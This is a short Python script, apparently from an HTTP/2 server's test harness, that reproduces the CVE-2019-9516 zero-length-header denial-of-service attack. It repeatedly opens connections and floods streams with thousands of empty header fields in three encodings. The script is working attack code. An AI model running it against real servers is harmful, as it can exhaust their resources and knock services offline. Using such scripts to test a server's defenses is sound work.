#!/usr/bin/python3
"""Header fields whose name and value have no length (CVE-2019-9516): they cost bookkeeping and no bytes."""
from attacker import Peer, REQUEST, h2, headers, main

MARK = ("http2.rx_malformed", "http2.headers_bombs", "http2.headers_over")
ENDED = True


def attack(run):
    lists = (REQUEST + b"\x00\x00\x00" * 5000,   # no name, no value
             REQUEST + b"\x40\x00\x00" * 5000,   # the same, indexed
             REQUEST + b"\x00\x80\x80" * 5000)   # the same, Huffman coded
    turn = 0
    while run.going():
        peer, stream = Peer(run), 1
        while run.going() and peer.send(headers(stream, lists[turn % len(lists)])):
            stream += 2
        peer.wait(2)
        peer.close()
        turn += 1


if __name__ == "__main__":
    main(attack)
